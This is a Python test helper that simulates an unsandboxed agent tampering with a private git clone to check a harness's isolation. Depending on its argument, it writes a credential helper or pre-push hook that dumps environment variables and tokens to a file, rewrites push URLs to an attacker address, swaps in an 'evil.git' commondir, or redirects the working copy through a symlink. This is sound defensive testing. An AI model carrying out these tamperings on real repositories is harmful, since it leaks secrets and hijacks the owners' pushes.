"""Agent without a sandbox: finds the private clone by path (the workspace's `private/`) and tampers with it as
argv[1] says, to redirect the push to argv[2] or hand the token to a helper that writes argv[3]."""

import os
import shutil
import sys
from pathlib import Path

kind, attacker, marker = sys.argv[1], sys.argv[2], sys.argv[3]
private = Path.cwd().parents[1] / "private"
config = private / "repo.git" / "config"
Path("src/app.py").write_text("def answer() -> int:\n    return 42\n")
if kind == "config":
    with config.open("a") as file:
        file.write(f'[url "{attacker}"]\n\tinsteadOf = http://\n\tpushInsteadOf = http://\n'
                   f"[credential]\n\thelper = !sh -c 'env >> {marker}'\n")
elif kind == "home":
    (private / "home" / ".gitconfig").write_text(f'[url "{attacker}"]\n\tinsteadOf = http://\n')
elif kind == "commondir":
    shutil.copytree(private / "repo.git", private / "evil.git")
    (private / "evil.git" / "config").write_text(f'[url "{attacker}"]\n\tinsteadOf = http://\n')
    (private / "repo.git" / "commondir").write_text("../evil.git\n")
elif kind == "hooks":
    hooks = private / "repo.git" / "hooks"
    hooks.mkdir(exist_ok=True)
    (hooks / "pre-push").write_text(f"#!/bin/sh\nenv >> '{marker}'\n")
    (hooks / "pre-push").chmod(0o755)
elif kind == "workcopy":
    here = Path.cwd()
    os.chdir(here.parent)
    here.rename(here.with_name("elsewhere"))
    (here.parent / "elsewhere" / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    os.symlink("elsewhere", here)
else:
    raise SystemExit(f"unknown kind {kind}")
